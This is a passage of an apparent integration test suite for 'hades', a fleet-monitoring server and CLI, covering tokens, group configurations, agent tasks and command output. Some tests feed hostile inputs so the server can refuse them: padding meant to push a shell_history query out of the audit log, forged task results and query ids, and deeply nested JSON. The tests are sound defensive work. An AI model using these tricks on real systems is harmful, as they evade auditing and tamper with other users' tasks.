      assert.ok(bootstrap);
      const refused = await alone.api('DELETE', `/api/v1/tokens/api/${bootstrap['id']}`);
      assert.equal(refused.status, 409, refused.text);
      assert.equal(refused.body.code, 'HADES_ERR_API_LAST_ADMIN');
      assert.match(refused.body.message, /last admin token.*create another admin token first/);
      assert.equal((await alone.ok('GET', '/api/v1/agents')).agents.length, 0, 'the token still works');
      // A read-only or analyst token does not count as an admin.
      await alone.ok('POST', '/api/v1/tokens/api', { body: { name: 'reader', role: 'read-only' } });
      assert.equal((await alone.api('DELETE', `/api/v1/tokens/api/${bootstrap['id']}`)).status, 409);
      const second = (await alone.ok('POST', '/api/v1/tokens/api', { body: { name: 'second-admin', role: 'admin' } })) as { id: string; token: string };
      await alone.ok('DELETE', `/api/v1/tokens/api/${bootstrap['id']}`);
      const last = await alone.api('DELETE', `/api/v1/tokens/api/${second.id}`, { token: second.token });
      assert.equal(last.status, 409, 'now the second one is the last');
    } finally {
      await alone.stop();
    }
  });

  it('revoked, is replaced at the next start, and that start logs and audits the new one', async () => {
    const dataDir = path.join(dir, 'revoked-bootstrap');
    const first = await TestServer.start({ dataDir });
    const second = (await first.ok('POST', '/api/v1/tokens/api', { body: { name: 'second-admin', role: 'admin' } })) as { id: string; token: string };
    const { tokens } = (await first.ok('GET', '/api/v1/tokens/api')) as { tokens: AnyEvent[] };
    const bootstrap = tokens.find((t) => t['name'] === 'bootstrap-admin' && !t['revoked_at']);
    await first.ok('DELETE', `/api/v1/tokens/api/${String(bootstrap?.['id'])}`, { token: second.token });
    await first.stop();
    const again = await TestServer.start({ dataDir });
    try {
      assert.notEqual(again.adminToken, first.adminToken);
      const logged = again.log.lines().find((l) => l['msg'] === 'local admin token created');
      assert.ok(logged, again.log.text);
      assert.match(String(logged['reason']), /revoked/);
      const { entries } = (await again.ok('GET', '/api/v1/audit', { token: second.token })) as { entries: AnyEvent[] };
      const made = entries.find((e) => e['action'] === 'token.api.create' && e['actor'] === 'system');
      assert.ok(made, JSON.stringify(entries.slice(0, 3)));
      assert.match(String(made['details']?.reason), /revoked/);
    } finally {
      await again.stop();
    }
  });
});

describe('group configuration', () => {
  it('stores a valid agent configuration with a version that grows at each change', async () => {
    const first = 'agent: { heartbeat_s: 15 }\n';
    const second = 'agent: { heartbeat_s: 20 }\nplugins: { driver: false }\n';
    assert.deepEqual(await server.ok('PUT', '/api/v1/groups/versioned/config', { body: { yaml: first } }), { version: 1, pushed: 0 });
    const stored = await server.ok('GET', '/api/v1/groups/versioned/config');
    assert.equal(stored.yaml, first);
    assert.equal(stored.version, 1);
    assert.deepEqual(await server.ok('PUT', '/api/v1/groups/versioned/config', { body: { yaml: second } }), { version: 2, pushed: 0 });
    const again = await server.ok('GET', '/api/v1/groups/versioned/config');
    assert.equal(again.yaml, second);
    assert.equal(again.version, 2);
    // Only an admin reads it: it may hold the credentials of outputs (an HTTP output's headers).
    for (const role of ['read-only', 'analyst'] as const) {
      const { token } = await apiToken(role, `group-reader-${role}`);
      assertError(await server.api('GET', '/api/v1/groups/versioned/config', { token }), 403, 'HADES_ERR_API_FORBIDDEN', role);
    }
  });

  it('pushes it to the group\'s connected agents, and to an agent of the group when it connects', async () => {
    const identity = await server.enrollAgent({ group: 'pushed' });
    assert.deepEqual((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).groups, ['pushed']);
    const stream = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      stream.hello(hostname);
      await stream.welcome();
      await waitUntil('the agent online', async () => (await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).online === true || undefined);
      // At its connection the group had no configuration: the agent was told its own file applies.
      assert.ok((await stream.next((m) => !!m.own_config)).own_config, 'its own file applies');
      const yaml = 'agent: { heartbeat_s: 42 }\n';
      assert.deepEqual(await server.ok('PUT', '/api/v1/groups/pushed/config', { body: { yaml } }), { version: 1, pushed: 1 });
      const config = await stream.next((m) => !!m.config);
      assert.equal(config.config?.yaml, yaml);
      assert.equal(String(config.config?.version), '1');
    } finally {
      stream.close();
    }
    const later = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      later.hello(hostname);
      await later.welcome();
      const config = await later.next((m) => !!m.config);
      assert.equal(String(config.config?.version), '1');
    } finally {
      later.close();
    }
  });
});

describe('tasks', () => {
  it('refuses a task for an unknown agent with 404', async () => {
    assertError(await server.api('POST', '/api/v1/tasks', { body: { agents: ['ag_0000000000000000'], kind: 'query', params: { sql: 'SELECT 1' } } }), 404, 'HADES_ERR_API_NOT_FOUND', 'unknown agent');
  });

  it('keeps a task pending until its agent connects, then sends it; the result comes back', async () => {
    const identity = await server.enrollAgent();
    const { tasks } = await server.ok('POST', '/api/v1/tasks', { body: { agents: [identity.agentId], kind: 'query', params: { sql: 'select 1' }, timeout_s: 60 } });
    assert.equal(tasks.length, 1);
    const task = tasks[0];
    assert.match(task.id, /^tk_/);
    assert.equal(task.status, 'pending');
    assert.equal(task.agent_id, identity.agentId);
    // The task's own time goes with it, so the agent stops the query when its answer could no longer be taken.
    assert.deepEqual(task.params, { sql: 'select 1', timeout_ms: 60_000 });
    const listed = (await server.ok('GET', '/api/v1/tasks', { query: { agent: identity.agentId } })).tasks as AnyEvent[];
    assert.deepEqual(listed.map((t) => t['id']), [task.id]);
    assert.ok(((await server.ok('GET', '/api/v1/tasks', { query: { status: 'pending' } })).tasks as AnyEvent[]).some((t) => t['id'] === task.id));

    const stream = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      stream.hello(hostname);
      await stream.welcome();
      const sent = await stream.next((m) => m.task !== undefined);
      assert.equal(sent.task?.task_id, task.id);
      assert.equal(sent.task?.kind, 'query');
      assert.deepEqual(JSON.parse(sent.task?.params_json ?? 'null'), { sql: 'select 1', timeout_ms: 60_000 });
      assert.equal((await server.ok('GET', `/api/v1/tasks/${task.id}`)).status, 'sent');

      // A task for a connected agent goes at once.
      const now = (await server.ok('POST', '/api/v1/tasks', { body: { agents: [identity.agentId], kind: 'log_level', params: { level: 'debug' } } })).tasks[0];
      assert.equal(now.status, 'sent');
      await stream.next((m) => m.task?.task_id === now.id);

      stream.write({ task_result: { task_id: task.id, status: 'done', result_json: JSON.stringify({ rows: [[1]] }) } });
      const done = await waitUntil('the task done', async () => {
        const current = await server.ok('GET', `/api/v1/tasks/${task.id}`);
        return current.status === 'done' ? current : undefined;
      });
      assert.deepEqual(done.result, { rows: [[1]] });
      const all = (await server.ok('GET', '/api/v1/tasks', { query: { agent: identity.agentId } })).tasks as AnyEvent[];
      assert.deepEqual(all.map((t) => t['id']), [now.id, task.id], 'newest first');

      // A result nested past 64 levels is not parsed, nor kept where the API could not send it
      // back: the task fails with the reason, and the listings still answer.
      stream.write({ task_result: { task_id: now.id, status: 'done', result_json: `${'['.repeat(4000)}${']'.repeat(4000)}` } });
      const deep = await waitUntil('the deep result refused', async () => {
        const current = await server.ok('GET', `/api/v1/tasks/${now.id}`);
        return current.status === 'failed' ? current : undefined;
      });
      assert.equal(deep.result.code, 'HADES_ERR_STREAM_MESSAGE_INVALID');
      assert.match(deep.result.message, /deeper than 64 levels/);
      await server.ok('GET', '/api/v1/tasks');
      await server.ok('GET', '/api/v1/agents');
    } finally {
      stream.close();
    }
  });

  it('does not let an agent answer another agent\'s task', async () => {
    const owner = await server.enrollAgent();
    const other = await server.enrollAgent();
    const task = (await server.ok('POST', '/api/v1/tasks', { body: { agents: [owner.agentId], kind: 'query', params: { sql: 'SELECT 1' } } })).tasks[0];
    const stream = new GatewayStream(other.gateways[0]!, identityCredentials(other));
    try {
      stream.hello(hostname);
      await stream.welcome();
      stream.write({ task_result: { task_id: task.id, status: 'done', result_json: '{"forged":true}' } });
      // A later message on the same stream is handled after the result: its Ack says the result was handled.
      await stream.batch(ndjson(makeEvents(1)), 1, 1);
    } finally {
      stream.close();
    }
    const after = await server.ok('GET', `/api/v1/tasks/${task.id}`);
    assert.equal(after.status, 'pending', `status ${after.status}, result ${JSON.stringify(after.result)}`);
  });

  it('refuses parameters a task\'s kind does not take: a forged query_id cannot join another\'s fleet query, padding cannot push the SQL out of the audit log', async () => {
    const { token } = await apiToken('analyst', 'task-params-analyst');
    const identity = await server.enrollAgent();
    // Someone's fleet query on that agent: one host.
    const query = (await server.ok('POST', '/api/v1/queries', { body: { sql: 'SELECT 1', agents: [identity.agentId], timeout_s: 60 } })) as { id: string };
    const forged = await server.api('POST', '/api/v1/tasks', { token, body: { agents: [identity.agentId], kind: 'query', params: { sql: 'SELECT 2', query_id: query.id } } });
    assertError(forged, 400, 'HADES_ERR_API_INVALID_REQUEST', 'a query task with the id of a fleet query');
    assert.match(forged.body.message, /query_id/);
    const after = (await server.ok('GET', `/api/v1/queries/${query.id}`)) as { summary: { agents: number }; hosts: AnyEvent[] };
    assert.equal(after.summary.agents, 1, 'the fleet query still has its one host');
    // Keys the agent ignores, each cut to 1 KiB in the audit record, together over its 16 KiB:
    // the record would keep neither kind nor SQL.
    const padding = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`pad${i}`, 'x'.repeat(1024)]));
    const padded = await server.api('POST', '/api/v1/tasks', { token, body: { agents: [identity.agentId], kind: 'query', params: { sql: 'SELECT * FROM shell_history', ...padding } } });
    assertError(padded, 400, 'HADES_ERR_API_INVALID_REQUEST', 'a query task with keys no agent reads');
    assertError(await server.api('POST', '/api/v1/tasks', { body: { agents: [identity.agentId], kind: 'restart_plugin', params: { name: 'inventory', extra: 1 } } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'restart_plugin with an extra key');
    assertError(await server.api('POST', '/api/v1/tasks', { body: { agents: [identity.agentId], kind: 'log_level', params: { level: 'debug', durationS: 60 } } }), 400, 'HADES_ERR_API_INVALID_REQUEST', 'log_level with a misspelt key');
    assert.deepEqual((await server.ok('GET', '/api/v1/tasks', { query: { agent: identity.agentId } })).tasks.filter((t: AnyEvent) => !t['params']?.query_id || t['params'].query_id !== query.id), [], 'no task made');
    // The keys the agents read still go through.
    const fine = (await server.ok('POST', '/api/v1/tasks', { token, body: { agents: [identity.agentId], kind: 'query', params: { sql: 'SELECT 3', timeout_s: 30, max_rows: 10, max_bytes: 2048 } } })).tasks as AnyEvent[];
    assert.equal(fine.length, 1);
    const inventory = (await server.ok('POST', '/api/v1/tasks', { token, body: { agents: [identity.agentId], kind: 'inventory', params: { table: 'users', timeout_ms: 30_000 } } })).tasks as AnyEvent[];
    assert.equal(inventory.length, 1);
    assert.equal((await server.ok('POST', '/api/v1/tasks', { body: { agents: [identity.agentId], kind: 'log_level', params: { level: 'debug', duration_s: 60 } } })).tasks.length, 1);
  });

  it('creates no task at all when one of the agents named is unknown', async () => {
    const identity = await server.enrollAgent();
    assertError(await server.api('POST', '/api/v1/tasks', { body: { agents: [identity.agentId, 'ag_0000000000000000'], kind: 'query', params: { sql: 'SELECT 1' } } }), 404, 'HADES_ERR_API_NOT_FOUND', 'mixed');
    assert.deepEqual((await server.ok('GET', '/api/v1/tasks', { query: { agent: identity.agentId } })).tasks, []);
  });
});

describe('the hades command against the running server', () => {
  let configFile: string;
  let identity: Awaited<ReturnType<TestServer['enrollAgent']>>;
  let events: AnyEvent[];
  before(async () => {
    configFile = path.join(dir, 'server.yaml');
    server.writeCliConfig(configFile, `cmdb: { file: ${JSON.stringify(cmdbFile)} }\n`);
    identity = await server.enrollAgent();
    events = makeEvents(3, { prefix: 'cli' });
    await deliver(identity, events);
  });

  it('hades agents list --json: one agent per line', async () => {
    const result = await runHades(['agents', 'list', '--json', '--config', configFile]);
    assert.equal(result.status, 0, result.stderr);
    const agents = result.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AnyEvent);
    const mine = agents.find((a) => a['id'] === identity.agentId);
    assert.ok(mine, 'the enrolled agent is listed');
    assert.equal(mine['hostname'], hostname);
    assert.equal(typeof mine['online'], 'boolean');
    assert.deepEqual(mine['groups'], ['default']);
    for (const agent of agents) assert.match(agent['id'], /^ag_[0-9a-f]{16}$/);
  });

  it('hades agents show ID: one agent, a line per member (--json: as the API has it); an unknown one is a coded error', async () => {
    const plain = await runHades(['agents', 'show', identity.agentId, '--config', configFile]);
    assert.equal(plain.status, 0, plain.stderr);
    assert.match(plain.stdout, new RegExp(`^id\\s+${identity.agentId}$`, 'm'));
    assert.match(plain.stdout, new RegExp(`^hostname\\s+${hostname}$`, 'm'));
    assert.match(plain.stdout, /^groups\s+default$/m);
    const json = await runHades(['agents', 'show', '--json', identity.agentId, '--config', configFile]);
    assert.equal(json.status, 0, json.stderr);
    assert.deepEqual(JSON.parse(json.stdout), await server.ok('GET', `/api/v1/agents/${identity.agentId}`));
    const unknown = await runHades(['agents', 'show', 'ag_0000000000000000', '--config', configFile]);
    assert.equal(unknown.status, 2, unknown.stderr);
    assert.match(unknown.stderr, /^hades: HADES_ERR_API_NOT_FOUND: no agent 'ag_0000000000000000' in the fleet of https:\/\/127\.0\.0\.1:\d+; hades agents list shows the agents and their ids\n$/);
  });

  it('hades fleet query --json: a column named host or agent_id does not take the place of the host that answered', async () => {
    const answering = await server.enrollAgent();
    const stream = new GatewayStream(answering.gateways[0]!, identityCredentials(answering));
    try {
      stream.hello('fleet-host');
      await stream.welcome();
      // logged_in_users and last_logins have a `host` column: the remote end of a login.
      const asked = runHades(['fleet', 'query', 'SELECT user, host FROM logged_in_users', '--json', '--timeout', '20', '--agent', answering.agentId, '--config', configFile]);
      const sent = await stream.next((m) => m.task?.kind === 'query', 15_000);
      stream.write({ task_result: { task_id: sent.task!.task_id, status: 'done', result_json: JSON.stringify({ rows: [{ user: 'root', host: '203.0.113.9', agent_id: 'ag_0000000000000000' }] }) } });
      const result = await asked;
      assert.equal(result.status, 0, result.stderr);
      const rows = result.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AnyEvent);
      assert.equal(rows.length, 1, result.stdout);
      assert.equal(rows[0]!['agent_id'], answering.agentId, 'the agent that answered');
      assert.equal(rows[0]!['host'], (await server.ok('GET', `/api/v1/agents/${answering.agentId}`)).hostname, 'the host that answered');
      assert.notEqual(rows[0]!['host'], '203.0.113.9');
      // The row's own columns are kept, under names of their own.
      assert.equal(rows[0]!['user'], 'root');
      assert.equal(rows[0]!['row.host'], '203.0.113.9');
      assert.equal(rows[0]!['row.agent_id'], 'ag_0000000000000000');
    } finally {
      stream.close();
    }
  });

  it('finds the deployment through HADES_SERVER_CONFIG as through --config', async () => {
    const result = await runHades(['agents', 'list', '--json'], { env: { ...process.env, HADES_SERVER_CONFIG: configFile } });
    assert.equal(result.status, 0, result.stderr);
    assert.ok(result.stdout.includes(identity.agentId));
  });

  it('hades search --json --since 5m --action inventory_change: the stored events, one per line', async () => {
    const result = await runHades(['search', '--json', '--since', '5m', '--action', 'inventory_change', '--config', configFile]);
    assert.equal(result.status, 0, result.stderr);
    const found = result.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AnyEvent);
    for (const event of found) assert.equal(event['event'].action, 'inventory_change');
    const ids = new Set(found.map((e) => e['event'].id));
    for (const event of events) assert.ok(ids.has(event['event'].id), `${event['event'].id} is found`);
    const filtered = await runHades(['search', '--json', '--since', '5m', '--config', configFile, `event.id=${events[1]!['event'].id}`]);
    assert.equal(filtered.status, 0, filtered.stderr);
    assert.deepEqual(filtered.stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as AnyEvent)['event'].id), [events[1]!['event'].id]);
  });

  it('hades search pages with --cursor, and takes --until', async () => {
    const base = ['search', '--json', '--since', '5m', '--config', configFile, `agent.id=${identity.agentId}`];
    const first = await runHades([...base, '--limit', '2']);
    assert.equal(first.status, 0, first.stderr);
    const cursor = /--cursor (\S+)/.exec(first.stderr)?.[1];
    assert.ok(cursor, first.stderr);
    // The next page keeps the first's window: the relative --since 5m comes back as the time it was then.
    const since = /the same command with --since (\S+) --cursor/.exec(first.stderr)?.[1];
    assert.ok(since && Math.abs(Date.parse(since) - (Date.now() - 5 * 60_000)) < 60_000, first.stderr);
    const second = await runHades([...base, '--limit', '2', '--since', since, '--cursor', cursor]);
    assert.equal(second.status, 0, second.stderr);
    const ids = (out: string) => out.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as AnyEvent)['event'].id as string);
    assert.deepEqual([...ids(first.stdout), ...ids(second.stdout)].sort(), events.map((e) => e['event'].id as string).sort(), 'two pages, each event once');
    const none = await runHades([...base, '--until', '2000-01-01T00:00:00Z', '--since', '2000-01-01']);
    assert.equal(none.status, 0, none.stderr);
    assert.equal(none.stdout, '');
  });

  it('hades server token create --json: a token an agent can enroll with', async () => {
    const result = await runHades(['server', 'token', 'create', '--json', '--ttl', '10m', '--config', configFile]);
    assert.equal(result.status, 0, result.stderr);
    const created = JSON.parse(result.stdout) as AnyEvent;
    assert.deepEqual(Object.keys(created).sort(), ['api', 'ca_sha256', 'expires_at', 'gateways', 'id', 'token']);
    assert.equal(created['api'], server.addresses.api);
    assert.deepEqual(created['gateways'], [server.addresses.gateway], 'the gateway the agent will be given');
    // For a person: the gateway, and that hosts elsewhere cannot reach a loopback one.
    const person = await runHades(['server', 'token', 'create', '--ttl', '10m', '--config', configFile]);
    assert.equal(person.status, 0, person.stderr);
    assert.match(person.stdout, new RegExp(`given the gateway ${server.addresses.gateway.replace(/[.[\]]/g, '\\$&')}`));
    assert.match(person.stderr, /only an agent on this host can reach that gateway: .*advertise\.gateways/);
    assert.equal(created['ca_sha256'], server.addresses.caSha256);
    assert.match(created['token'], /^hades1_[0-9a-f]{16}_/);
    const expires = Date.parse(created['expires_at']) - Date.now();
    assert.ok(expires > 9 * 60_000 && expires <= 10 * 60_000, `expires in ${expires} ms`);
    const enrolled = await server.enrollAgent({ token: created['token'] });
    assert.match(enrolled.agentId, /^ag_/);
    // Listed with the agent that used it; the unused one revoked (once), the used one refused.
    const listed = await runHades(['server', 'token', 'list', '--json', '--config', configFile]);
    assert.equal(listed.status, 0, listed.stderr);
    const rows = listed.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id: string; used_by?: string; revoked_at?: string });
    assert.equal(rows.find((r) => r.id === created['id'])?.used_by, enrolled.agentId);
    const unused = /^token:\s+hades1_([0-9a-f]{16})_/m.exec(person.stdout)?.[1];
    assert.ok(unused !== undefined && rows.some((r) => r.id === unused && r.used_by === undefined), person.stdout);
    const revoked = await runHades(['server', 'token', 'revoke', unused, '--config', configFile]);
    assert.equal(revoked.status, 0, revoked.stderr);
    assert.match(revoked.stdout, new RegExp(`enrollment token ${unused} is revoked`));
    assert.match((await runHades(['server', 'token', 'revoke', unused, '--config', configFile])).stdout, /was revoked already/);
    const table = await runHades(['server', 'token', 'list', '--config', configFile]);
    assert.match(table.stdout, new RegExp(`${unused}.*\\d{4}-\\d{2}-\\d{2}T`));
    const missing = await runHades(['server', 'token', 'revoke', 'ffffffffffffffff', '--config', configFile]);
    assert.notEqual(missing.status, 0);
    assert.match(missing.stderr, /HADES_ERR_API_NOT_FOUND: .*hades server token list shows the enrollment tokens/);
  });

  it('hades agents renew ID: asks the agent to renew (at its next connection when offline), --json and --now too', async () => {
    const plain = await runHades(['agents', 'renew', identity.agentId, '--config', configFile]);
    assert.equal(plain.status, 0, plain.stderr);
    assert.match(plain.stdout, new RegExp(`agent ${identity.agentId} is not connected: it will be asked to renew its certificate when it next connects`));
    assert.ok((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).renew_requested_at, 'the request is kept for its next connection');
    const json = await runHades(['agents', 'renew', '--json', identity.agentId, '--config', configFile]);
    assert.equal(json.status, 0, json.stderr);
    assert.deepEqual(JSON.parse(json.stdout), { id: identity.agentId, sent: false, now: false });
    assert.equal((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).renew_immediately, undefined);
    const now = await runHades(['agents', 'renew', identity.agentId, '--now', '--config', configFile]);
    assert.equal(now.status, 0, now.stderr);
    assert.match(now.stdout, /it will be asked to renew its certificate at once when it next connects/);
    assert.equal((await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).renew_immediately, true);
    const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { since: '5m', limit: 1000 } })) as { entries: AnyEvent[] };
    assert.ok(entries.some((e) => e['action'] === 'agent.renew' && e['target'] === identity.agentId), 'audited');
  });

  it('hades agents renew: a clear coded error for an unknown agent, a missing id, a read-only token and a server that cannot be reached', async () => {
    const unknown = await runHades(['agents', 'renew', 'ag_0000000000000000', '--config', configFile]);
    assert.equal(unknown.status, 2, unknown.stderr);
    assert.equal(unknown.stdout, '');
    assert.match(unknown.stderr, /^hades: HADES_ERR_API_NOT_FOUND: no agent 'ag_0000000000000000' in the fleet of https:\/\/127\.0\.0\.1:\d+; hades agents list shows the agents and their ids\n$/);
    const missing = await runHades(['agents', 'renew', '--config', configFile]);
    assert.equal(missing.status, 2, missing.stderr);
    assert.match(missing.stderr, /HADES_ERR_CLI_MISSING_ARGUMENT/);
    const reader = await apiToken('read-only', 'renew-reader');
    const forbidden = await runHades(['agents', 'renew', identity.agentId, '--config', configFile, '--token', reader.token]);
    assert.equal(forbidden.status, 2, forbidden.stderr);
    assert.match(forbidden.stderr, /HADES_ERR_API_FORBIDDEN/);
    // The same deployment's credentials, but nothing listens where the configuration says.
    const [closed] = await freePorts(1);
    const unreachableConfig = path.join(dir, 'server-unreachable.yaml');
    writeFileSync(unreachableConfig, serverConfigText(server.dataDir, { agents: server.addresses.gateway, api: `127.0.0.1:${closed}` }));
    const unreachable = await runHades(['agents', 'renew', identity.agentId, '--config', unreachableConfig]);
    assert.equal(unreachable.status, 3, unreachable.stderr);
    assert.match(unreachable.stderr, new RegExp(`^hades: HADES_ERR_SERVER_UNREACHABLE: cannot reach the API at https://127\\.0\\.0\\.1:${closed}: .*ECONNREFUSED`));
    // What to do: the deployment is not running, or is another one this command was not told of.
    assert.match(unreachable.stderr, /\(nothing listens there: start it \(hades start, or hades server\); for a deployment started with hades start --data DIR or on other ports, pass --config DIR\/server\.yaml/);
  });

  it('hades search with a bad filter exits with status 2', async () => {
    const local = await runHades(['search', '--config', configFile, 'not a filter']);
    assert.equal(local.status, 2, local.stderr);
    assert.match(local.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT/);
    const remote = await runHades(['search', '--config', configFile, '--action', 'no_such_action']);
    assert.equal(remote.status, 2, remote.stderr);
    assert.match(remote.stderr, /HADES_ERR_API_INVALID_REQUEST/);
    // A bad time bound is a usage error before anything is sent, even with no server to ask.
    const missing = path.join(dir, 'server-missing.yaml');
    writeFileSync(missing, serverConfigText(path.join(dir, 'never-started'), { agents: '127.0.0.1:1', api: '127.0.0.1:1' }));
    for (const args of [['search', '--since', '5x'], ['search', '--until', 'yesterday'], ['alerts', 'list', '--since', '2026-13']]) {
      const r = await runHades([...args, '--config', missing]);
      assert.equal(r.status, 2, r.stderr);
      assert.match(r.stderr, /^hades: HADES_ERR_CLI_INVALID_ARGUMENT: --(since|until) '.*' is not a duration \(30s, 15m, 2h, 7d\) or an ISO time/);
    }
    // So is a --limit the API would refuse, named as the option the person typed.
    for (const [args, max] of [[['search', '--limit', '100000'], 10000], [['search', '--limit', 'lots'], 10000], [['alerts', 'list', '--limit', '0'], 10000], [['tasks', 'list', '--limit', '5000'], 1000]] as const) {
      const r = await runHades([...args, '--config', missing]);
      assert.equal(r.status, 2, r.stderr);
      assert.match(r.stderr, new RegExp(`^hades: HADES_ERR_CLI_INVALID_ARGUMENT: --limit must be a number from 1 to ${max} \\(got '${args[args.length - 1]}'\\)`));
    }
    const token = await runHades(['agents', 'list', '--config', configFile, '--token', 'nope']);
    assert.notEqual(token.status, 0);
    assert.match(token.stderr, /HADES_ERR_API_UNAUTHENTICATED/);
  });
});

describe('managing the fleet with the hades command', () => {
  let configFile: string;
  before(() => {
    configFile = path.join(dir, 'server-manage.yaml');
    server.writeCliConfig(configFile, `cmdb: { file: ${JSON.stringify(cmdbFile)} }\n`);
  });
  const hades = (...args: string[]) => runHades([...args, '--config', configFile]);
  const hadesWith = (input: string, ...args: string[]) => runHades([...args, '--config', configFile], { input });

  it('hades groups set, show and list: a checked configuration is stored, pushed to the connected members, and read back', async () => {
    const identity = await server.enrollAgent({ group: 'cli-web' });
    const file = path.join(dir, 'cli-web.yaml');
    const yaml = 'agent: { heartbeat_s: 17 }\n';
    writeFileSync(file, yaml);
    const stream = new GatewayStream(identity.gateways[0]!, identityCredentials(identity));
    try {
      stream.hello(hostname);
      await stream.welcome();
      await waitUntil('the agent online', async () => (await server.ok('GET', `/api/v1/agents/${identity.agentId}`)).online === true || undefined);
      const set = await hades('groups', 'set', 'cli-web', file);
      assert.equal(set.status, 0, set.stderr);
      assert.equal(set.stdout, 'group cli-web: configuration version 1 stored, pushed to 1 connected agent\n');
      assert.equal((await stream.next((m) => !!m.config)).config?.yaml, yaml);
    } finally {
      stream.close();
    }
    const fromStdin = await hadesWith('agent: { heartbeat_s: 18 }\n', 'groups', 'set', 'cli-web', '-', '--json');
    assert.equal(fromStdin.status, 0, fromStdin.stderr);
    assert.deepEqual(JSON.parse(fromStdin.stdout), { group: 'cli-web', version: 2, pushed: 0 });
    const shown = await hades('groups', 'show', 'cli-web');
    assert.equal(shown.status, 0, shown.stderr);
    assert.equal(shown.stdout, 'agent: { heartbeat_s: 18 }\n');
    const listed = await hades('groups', 'list', '--json');
    assert.equal(listed.status, 0, listed.stderr);
    const row = listed.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AnyEvent).find((g) => g['name'] === 'cli-web');
    assert.equal(row?.['agents'], 1);
    assert.equal(row?.['version'], 2);
    const human = await hades('groups', 'list');
    assert.match(human.stdout, /^cli-web\s+1\s+version 2\s/m);
    const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { since: '5m', limit: 1000 } })) as { entries: AnyEvent[] };
    assert.ok(entries.some((e) => e['action'] === 'group.config' && e['target'] === 'cli-web'), 'audited');
  });

  it('hades groups set says which keys of the file the group\'s agents keep their own (agent.data_dir, outputs.server)', async () => {
    const own = await hadesWith('agent: { data_dir: /srv/elsewhere, heartbeat_s: 19 }\noutputs: { server: { enabled: false } }\n', 'groups', 'set', 'cli-own', '-');
    assert.equal(own.status, 0, own.stderr);
    assert.match(own.stderr, /sets agent\.data_dir and outputs\.server, which each agent keeps from its own file: the group's agents do not apply them/);
    const plain = await hadesWith('agent: { heartbeat_s: 19 }\n', 'groups', 'set', 'cli-own', '-');
    assert.equal(plain.status, 0, plain.stderr);
    // What the file turns on, its defaults included (the file output among them).
    assert.equal(plain.stderr, 'hades: the group\'s agents now run this file with the defaults for what it leaves out: events to the file /var/log/hades/events.ndjson; its log to standard error; metrics on 127.0.0.1:9479\n');
    const quiet = await hadesWith('outputs: { file: { enabled: false } }\nmetrics: { enabled: false }\nlog: { file: /var/log/hades/agent.log }\n', 'groups', 'set', 'cli-own', '-');
    assert.match(quiet.stderr, /leaves out: its log to \/var\/log\/hades\/agent\.log; no metrics endpoint\n$/);
  });

  it('hades groups set refuses an empty configuration (it would put the group on the defaults), here and in the API', async () => {
    const empty = await hadesWith('\n# nothing\n', 'groups', 'set', 'cli-empty', '-');
    assert.equal(empty.status, 2, empty.stderr);
    assert.match(empty.stderr, /HADES_ERR_CONFIG_INVALID: \(standard input\) sets nothing/);
    const cut = await hadesWith('---\n', 'groups', 'set', 'cli-empty', '-');
    assert.equal(cut.status, 2, cut.stderr);
    for (const yaml of ['  \n', '---\n', '--- # cut here\n', '{}\n', '~\n', '...\n', '# only a comment\n']) {
      assertError(await server.api('PUT', '/api/v1/groups/cli-empty/config', { body: { yaml } }), 400, 'HADES_ERR_API_INVALID_REQUEST', JSON.stringify(yaml));
    }
    assert.equal((await server.api('GET', '/api/v1/groups/cli-empty/config')).status, 404);
  });

  it('hades groups set refuses a bad configuration with its lines and stores nothing; unknown groups and bad names are coded errors', async () => {
    const file = path.join(dir, 'cli-bad.yaml');
    writeFileSync(file, 'agent:\n  heartbeat_s: soon\nplugins:\n  honeypot: { enabled: true, ports: [{ port: 2323 }, { port: 2323 }] }\n');
    const bad = await hades('groups', 'set', 'cli-bad', file);
    assert.equal(bad.status, 2, bad.stderr);
    assert.match(bad.stderr, new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}:2:\\d+: HADES_ERR_CONFIG_`, 'm'));
    // The checks across fields in the same run (a decoy port named twice), not once the rest is fixed.
    assert.match(bad.stderr, /:4:\d+: HADES_ERR_CONFIG_VALUE: tcp port 2323 is named twice/);
    assert.match(bad.stderr, /HADES_ERR_CONFIG_INVALID: .* 2 problems, listed above; nothing was stored/);
    // ...and alone.
    writeFileSync(file, 'agent:\n  heartbeat_s: 20\nplugins:\n  honeypot: { enabled: true, ports: [{ port: 2323 }, { port: 2323 }] }\n');
    const twice = await hades('groups', 'set', 'cli-bad', file);
    assert.equal(twice.status, 2, twice.stderr);
    assert.match(twice.stderr, /:4:\d+: HADES_ERR_CONFIG_\w+: .*2323/);
    assert.equal((await server.api('GET', '/api/v1/groups/cli-bad/config')).status, 404);
    const unknown = await hades('groups', 'show', 'no-such-group');
    assert.equal(unknown.status, 2, unknown.stderr);
    assert.match(unknown.stderr, /^hades: HADES_ERR_API_NOT_FOUND: no group 'no-such-group'; hades groups list/);
    // A group with members and no configuration: said, not an error.
    const bare = await hades('groups', 'show', 'default');
    assert.equal(bare.status, 0, bare.stderr);
    assert.equal(bare.stdout, '');
    assert.match(bare.stderr, /^hades: group default has no configuration: its agents run their own files/);
    assert.deepEqual(JSON.parse((await hades('groups', 'show', 'default', '--json')).stdout), { name: 'default', yaml: null });
    const badName = await hades('groups', 'set', 'bad name', file);
    assert.equal(badName.status, 2);
    const missing = await hades('groups', 'set', 'cli-bad', path.join(dir, 'absent.yaml'));
    assert.equal(missing.status, 3, missing.stderr);
